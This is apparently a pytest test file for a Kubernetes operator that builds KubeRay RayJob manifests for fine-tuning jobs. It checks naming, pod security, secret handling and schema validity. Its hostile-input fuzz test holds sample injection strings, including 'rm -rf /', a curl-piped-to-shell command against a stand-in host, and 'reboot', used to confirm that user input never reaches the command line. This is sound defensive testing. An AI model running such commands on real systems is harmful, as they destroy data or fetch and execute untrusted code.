"""build_rayjob: golden files per example, KubeRay's schema, names, security, secrets, hostile input. No I/O.

Regenerate the golden files after an intended change with `SFTJOB_UPDATE_GOLDEN=1 pytest tests/operator`
and review the diff.
"""

from __future__ import annotations

import json
import os
import re
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sftjob_api.field_problems import check_document
from sftjob_api.types import SFTJob, parse_sftjob
from sftjob_operator.rayjob import (
    ENTRYPOINT,
    MAX_RAYJOB_NAME,
    build_rayjob,
    check_renderable,
    job_config,
    rayjob_name,
)
from sftjob_operator.settings import DEFAULT_TRAINER_IMAGE, Settings
from support.operator_env import RAYJOB_CRD, REPO, load_crd

GOLDEN = Path(__file__).parent / "golden"
EXAMPLES = sorted((REPO / "examples").glob("*.yaml"))
UID = "00000000-0000-4000-8000-000000000001"
DNS_LABEL = re.compile(r"^[a-z0-9]([-a-z0-9]*[a-z0-9])?$")


def load_job(path: Path, **metadata: Any) -> SFTJob:
    document = yaml.safe_load(path.read_text())
    document["metadata"] = {**document["metadata"], **metadata}
    job, problems = check_document(document)
    assert job is not None, problems
    return job


def base_job(**spec: Any) -> SFTJob:
    document: dict[str, Any] = {
        "apiVersion": "sftjob.dev/v1alpha1",
        "kind": "SFTJob",
        "metadata": {"name": "job", "namespace": "ns", "uid": UID},
        "spec": {
            "model": {"source": "hf://org/m"},
            "dataset": {"train": {"uri": "s3://data/train.jsonl"}},
            "output": {"uri": "s3://out/sft"},
        },
    }
    document["spec"].update(spec)
    return parse_sftjob(document)


def containers(rayjob: dict[str, Any]) -> list[dict[str, Any]]:
    cluster = rayjob["spec"]["rayClusterSpec"]
    pods = [cluster["headGroupSpec"]["template"], *(g["template"] for g in cluster["workerGroupSpecs"])]
    pods.append(rayjob["spec"]["submitterPodTemplate"])
    return [c for pod in pods for c in pod["spec"]["containers"]]


def pods(rayjob: dict[str, Any]) -> list[dict[str, Any]]:
    cluster = rayjob["spec"]["rayClusterSpec"]
    return [
        cluster["headGroupSpec"]["template"]["spec"],
        *(g["template"]["spec"] for g in cluster["workerGroupSpecs"]),
        rayjob["spec"]["submitterPodTemplate"]["spec"],
    ]


def env(container: dict[str, Any]) -> dict[str, str]:
    return {e["name"]: e["value"] for e in container.get("env", [])}


@pytest.fixture(scope="module")
def kuberay_schema() -> dict[str, Any]:
    crd = load_crd(RAYJOB_CRD)
    return next(v for v in crd["spec"]["versions"] if v["name"] == "v1")["schema"]["openAPIV3Schema"]  # type: ignore[no-any-return]


def schema_errors(schema: dict[str, Any], rayjob: dict[str, Any]) -> list[str]:
    from openapi_schema_validator import OAS30Validator

    return [f"{'.'.join(map(str, e.path))}: {e.message}" for e in OAS30Validator(schema).iter_errors(rayjob)]


# ------------------------------------------------------------------------------------------- golden


@pytest.mark.parametrize("example", EXAMPLES, ids=[p.stem for p in EXAMPLES])
def test_golden(example: Path) -> None:
    rendered = yaml.safe_dump(build_rayjob(load_job(example, uid=UID), 1, Settings()), sort_keys=False, width=120)
    golden = GOLDEN / example.name
    if os.environ.get("SFTJOB_UPDATE_GOLDEN"):
        golden.write_text(rendered)
    assert golden.is_file(), f"no golden file for {example.name}: run SFTJOB_UPDATE_GOLDEN=1 pytest {__file__}"
    assert rendered == golden.read_text(), f"{golden} is stale: run SFTJOB_UPDATE_GOLDEN=1 and review the diff"


@pytest.mark.parametrize("example", EXAMPLES, ids=[p.stem for p in EXAMPLES])
@pytest.mark.parametrize("variant", ["attempt-1", "attempt-3", "suspended", "deadline", "operator-defaults"])
def test_every_rendering_validates_against_kuberay(kuberay_schema: dict[str, Any], example: Path, variant: str) -> None:
    job = load_job(example, uid=UID)
    settings = Settings()
    attempt = 3 if variant == "attempt-3" else 1
    if variant == "suspended":
        job = job.model_copy(
            update={
                "spec": job.spec.model_copy(
                    update={"run_policy": job.spec.run_policy.model_copy(update={"suspend": True})}
                )
            }
        )
    if variant == "operator-defaults":
        settings = Settings(
            trainer_image="registry.example/trainer:1", default_worker_cpu="16", default_worker_memory="128Gi"
        )
    rayjob = build_rayjob(job, attempt, settings, active_deadline_seconds=120 if variant == "deadline" else None)
    assert schema_errors(kuberay_schema, rayjob) == []


# ------------------------------------------------------------------------------------------ naming


@pytest.mark.parametrize("length", [1, 20, 43, 44, 45, 47, 63])
@pytest.mark.parametrize("attempt", [1, 9, 10, 100])
def test_rayjob_names_fit_47_characters(length: int, attempt: int) -> None:
    name = ("a" * (length - 1) + "b")[:length]
    result = rayjob_name(name, attempt)
    assert len(result) <= MAX_RAYJOB_NAME
    assert DNS_LABEL.fullmatch(result)
    assert result.endswith(f"-a{attempt}")
    if len(name) + len(f"-a{attempt}") <= MAX_RAYJOB_NAME:
        assert result == f"{name}-a{attempt}"


def test_long_names_with_a_common_prefix_stay_distinct() -> None:
    first, second = "x" * 50 + "-first", "x" * 50 + "-second"
    assert rayjob_name(first, 1) != rayjob_name(second, 1)
    assert rayjob_name(first, 1) == rayjob_name(first, 1)
    assert DNS_LABEL.fullmatch(rayjob_name("a" * 39 + "-" + "b" * 23, 2))  # no '-' left before the hash


# ------------------------------------------------------------------------------------ the manifest


def test_owner_labels_and_lifecycle() -> None:
    job = base_job(runPolicy={"queueName": "team-a", "suspend": True, "activeDeadlineSeconds": 3600})
    rayjob = build_rayjob(job, 2, Settings())
    meta = rayjob["metadata"]
    assert meta["name"] == "job-a2" and meta["namespace"] == "ns"
    assert meta["labels"] == {
        "sftjob.dev/name": "job",
        "sftjob.dev/attempt": "2",
        "app.kubernetes.io/managed-by": "sftjob-operator",
        "kueue.x-k8s.io/queue-name": "team-a",
    }
    assert meta["ownerReferences"] == [
        {
            "apiVersion": "sftjob.dev/v1alpha1",
            "kind": "SFTJob",
            "name": "job",
            "uid": UID,
            "controller": True,
            "blockOwnerDeletion": True,
        }
    ]
    spec = rayjob["spec"]
    assert spec["entrypoint"] == ENTRYPOINT == "python -m sftjob_trainer"
    assert spec["shutdownAfterJobFinishes"] is True
    assert spec["suspend"] is True
    assert spec["activeDeadlineSeconds"] == 3600
    assert spec["backoffLimit"] == 0
    assert "runtimeEnvYAML" not in spec
    assert build_rayjob(job, 2, Settings(), active_deadline_seconds=100)["spec"]["activeDeadlineSeconds"] == 100


def test_without_a_uid_there_is_no_owner_reference() -> None:
    job = parse_sftjob({**base_job().model_dump(by_alias=True, exclude_none=True), "metadata": {"name": "job"}})
    rayjob = build_rayjob(job, 1, Settings())
    assert "ownerReferences" not in rayjob["metadata"] and "namespace" not in rayjob["metadata"]


def test_compute_maps_to_the_worker_group() -> None:
    job = base_job(
        compute={
            "numWorkers": 4,
            "gpusPerWorker": 8,
            "cpusPerWorker": 32,
            "memoryPerWorker": "256Gi",
            "image": "registry.example/custom:2",
            "nodeSelector": {"nvidia.com/gpu.product": "H100"},
            "tolerations": [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}],
            "priorityClassName": "training",
            "serviceAccountName": "trainer",
        }
    )
    cluster = build_rayjob(job, 1, Settings())["spec"]["rayClusterSpec"]
    (group,) = cluster["workerGroupSpecs"]
    assert group["replicas"] == group["minReplicas"] == group["maxReplicas"] == 4
    worker = group["template"]["spec"]
    (container,) = worker["containers"]
    assert container["image"] == "registry.example/custom:2"
    assert container["resources"]["limits"] == {"cpu": "32", "memory": "256Gi", "nvidia.com/gpu": "8"}
    assert container["resources"]["requests"] == {"cpu": "32", "memory": "256Gi"}
    assert worker["nodeSelector"] == {"nvidia.com/gpu.product": "H100"}
    assert worker["tolerations"] == [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}]
    assert worker["priorityClassName"] == "training" and worker["serviceAccountName"] == "trainer"
    head = cluster["headGroupSpec"]["template"]["spec"]
    assert head["priorityClassName"] == "training" and head["serviceAccountName"] == "trainer"
    assert "nodeSelector" not in head and "nvidia.com/gpu" not in head["containers"][0]["resources"]["limits"]
    assert cluster["headGroupSpec"]["rayStartParams"]["num-cpus"] == "0"


def test_cpu_training_requests_no_gpu() -> None:
    container = build_rayjob(base_job(compute={"gpusPerWorker": 0}), 1, Settings())["spec"]["rayClusterSpec"][
        "workerGroupSpecs"
    ][0]
    assert "nvidia.com/gpu" not in container["template"]["spec"]["containers"][0]["resources"]["limits"]


def test_operator_defaults_apply_where_the_spec_holds_the_api_defaults() -> None:
    settings = Settings(
        trainer_image="registry.example/trainer:9", default_worker_cpu="12", default_worker_memory="96Gi"
    )
    defaults = build_rayjob(base_job(), 1, settings)
    worker = defaults["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]["template"]["spec"]["containers"][0]
    assert worker["resources"]["requests"] == {"cpu": "12", "memory": "96Gi"}
    assert all(c["image"] == "registry.example/trainer:9" for c in containers(defaults))
    explicit = build_rayjob(base_job(compute={"cpusPerWorker": 6, "memoryPerWorker": "40Gi"}), 1, settings)
    worker = explicit["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]["template"]["spec"]["containers"][0]
    assert worker["resources"]["requests"] == {"cpu": "6", "memory": "40Gi"}
    plain = build_rayjob(base_job(), 1, Settings())
    assert all(c["image"] == DEFAULT_TRAINER_IMAGE for c in containers(plain))


def test_pod_security() -> None:
    rayjob = build_rayjob(base_job(), 1, Settings())
    for container in containers(rayjob):
        security = container["securityContext"]
        assert security["allowPrivilegeEscalation"] is False
        assert security["capabilities"] == {"drop": ["ALL"]}
        assert security["runAsNonRoot"] is True
        assert security["seccompProfile"] == {"type": "RuntimeDefault"}
        assert "privileged" not in security
    for pod in pods(rayjob):
        assert pod["securityContext"]["runAsNonRoot"] is True
        assert pod["securityContext"]["runAsUser"] != 0
        assert pod["securityContext"]["seccompProfile"] == {"type": "RuntimeDefault"}


def test_the_trainer_gets_the_job_as_json_and_the_attempt() -> None:
    job = base_job(checkpointing={"resumeFrom": "latest"})
    rayjob = build_rayjob(job, 3, Settings())
    head, worker, submitter = containers(rayjob)
    for container in (head, worker):
        variables = env(container)
        assert variables["SFTJOB_ATTEMPT"] == "3"
        config = json.loads(variables["SFTJOB_CONFIG"])
        assert config == job_config(job)
        assert config["metadata"] == {"name": "job", "namespace": "ns"}
        assert parse_sftjob(config).spec == job.spec
        assert "command" not in container and "args" not in container
    assert "env" not in submitter  # it only submits; the config and credentials stay in the Ray pods


def test_credentials_come_only_from_secret_references() -> None:
    job = base_job(
        model={"source": "hf://org/gated", "secretRef": {"name": "hf"}},
        dataset={"train": {"uri": "s3://data/t.jsonl"}, "secretRef": {"name": "data-s3"}},
        output={"uri": "s3://out/sft", "secretRef": {"name": "data-s3"}},
    )
    rayjob = build_rayjob(job, 1, Settings())
    head, worker, submitter = containers(rayjob)
    expected = [
        {"secretRef": {"name": "hf"}},
        {"secretRef": {"name": "data-s3"}},
        {"prefix": "SFTJOB_MODEL_", "secretRef": {"name": "hf"}},
        {"prefix": "SFTJOB_DATASET_", "secretRef": {"name": "data-s3"}},
        {"prefix": "SFTJOB_OUTPUT_", "secretRef": {"name": "data-s3"}},
    ]
    assert head["envFrom"] == worker["envFrom"] == expected
    assert "envFrom" not in submitter
    assert all("valueFrom" not in e for c in containers(rayjob) for e in c.get("env", []))
    assert "runtimeEnvYAML" not in rayjob["spec"]
    assert "envFrom" not in containers(build_rayjob(base_job(), 1, Settings()))[0]


def test_service_credentials_come_first_so_storage_keys_win_a_clash() -> None:
    job = base_job(
        dataset={"train": {"uri": "s3://data/t.jsonl"}, "secretRef": {"name": "data-s3"}},
        evaluation={"judge": {"endpoint": "http://judge.llm.svc:8000/v1", "model": "judge",
                              "secretRef": {"name": "judge-key"}}},
        tracking={"mlflow": {"trackingUri": "http://mlflow.mlops.svc:5000", "secretRef": {"name": "mlflow-token"}}},
    )
    head = containers(build_rayjob(job, 1, Settings()))[0]
    assert head["envFrom"] == [
        {"secretRef": {"name": "mlflow-token"}},
        {"secretRef": {"name": "data-s3"}},
        {"prefix": "SFTJOB_MLFLOW_", "secretRef": {"name": "mlflow-token"}},
        {"prefix": "SFTJOB_DATASET_", "secretRef": {"name": "data-s3"}},
    ]
    # the judge's key only as its own variable: it can never reach another service's endpoint
    assert {"name": "SFTJOB_JUDGE_API_KEY",
            "valueFrom": {"secretKeyRef": {"name": "judge-key", "key": "OPENAI_API_KEY"}}} in head["env"]


def test_the_manifest_shares_no_objects() -> None:
    rayjob = build_rayjob(base_job(), 1, Settings())
    head, worker, _ = containers(rayjob)
    head["env"].append({"name": "X", "value": "1"})
    assert len(worker["env"]) == len(head["env"]) - 1


@pytest.mark.parametrize(
    ("spec", "field"),
    [
        ({"runPolicy": {"queueName": "not a label"}}, "spec.runPolicy.queueName"),
        ({"runPolicy": {"queueName": "q" * 64}}, "spec.runPolicy.queueName"),
        ({"compute": {"nodeSelector": {"bad key!": "v"}}}, "spec.compute.nodeSelector.bad key!"),
        ({"compute": {"nodeSelector": {"example.com/pool": "a b"}}}, "spec.compute.nodeSelector.example.com/pool"),
        ({"compute": {"priorityClassName": "High_Priority"}}, "spec.compute.priorityClassName"),
        ({"compute": {"serviceAccountName": "sa;rm"}}, "spec.compute.serviceAccountName"),
    ],
)
def test_check_renderable_rejects_what_kubernetes_would(spec: dict[str, Any], field: str) -> None:
    problems = check_renderable(base_job(**spec))
    assert [p.field for p in problems] == [field]


def test_check_renderable_accepts_the_examples() -> None:
    for example in EXAMPLES:
        assert check_renderable(load_job(example)) == [], example.name


# --------------------------------------------------------------------------------------- hostile input

HOSTILE = st.one_of(
    st.sampled_from(
        ["'; rm -rf / #", '"$(curl evil.sh | sh)"', "`reboot`", "a\nb\r\nc", "${HOME}", "x" * 20000, "\\", "%s %n"]
    ),
    st.text(alphabet=st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), min_size=1, max_size=300),
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(template=HOSTILE, text=HOSTILE, column=HOSTILE, path=HOSTILE)
def test_a_hostile_spec_renders_the_same_entrypoint(template: str, text: str, column: str, path: str) -> None:
    safe_path = "/data/" + re.sub(r"[:]|(^|/)\.\.(?=/|$)", "_", path)[:1000]
    hostile = base_job(
        model={"source": safe_path},
        dataset={
            "train": {"uri": safe_path + "/train.jsonl"},
            "chatTemplate": "{{ " + template + " }}",
            "columnMap": {column[:253]: column[:253]},
        },
        method={"type": "prompt_tuning", "promptTuning": {"initText": text}},
        output={"uri": safe_path},
    )
    benign = build_rayjob(base_job(), 1, Settings())
    rendered = build_rayjob(hostile, 1, Settings())
    assert rendered["spec"]["entrypoint"] == benign["spec"]["entrypoint"] == ENTRYPOINT
    assert "runtimeEnvYAML" not in rendered["spec"]
    for container in containers(rendered):
        assert "command" not in container and "args" not in container
        if "env" in container:
            # The user's strings travel only as JSON data, and arrive intact.
            assert json.loads(env(container)["SFTJOB_CONFIG"]) == job_config(hostile)
    # Outside the config, the manifest is the benign one (names and labels come from the DNS-safe job name).
    strip = lambda r: json.dumps(r).replace(json.dumps(env(containers(r)[0])["SFTJOB_CONFIG"]), "")  # noqa: E731
    assert strip(rendered) == strip(benign)


def test_the_pure_modules_import_nothing_that_does_io() -> None:
    import ast

    allowed = {"__future__", "collections", "copy", "dataclasses", "datetime", "enum", "hashlib", "json", "re"}
    allowed |= {"typing", "sftjob_api", "sftjob_operator.settings"}
    pure = ("rayjob", "status", "status_machine", "kuberay_state", "retry_policy", "progress_status", "conditions",
            "k8s_text", "pods")
    allowed |= {f"sftjob_operator.{module}" for module in pure}
    for module in pure:
        tree = ast.parse((REPO / "operator" / "sftjob_operator" / f"{module}.py").read_text())
        names = {alias.name for node in ast.walk(tree) if isinstance(node, ast.Import) for alias in node.names}
        names |= {node.module for node in ast.walk(tree) if isinstance(node, ast.ImportFrom) and node.module}
        outside = {n for n in names if n not in allowed and n.split(".")[0] not in allowed - {"sftjob_operator"}}
        assert outside == set(), f"{module}.py imports {outside}"
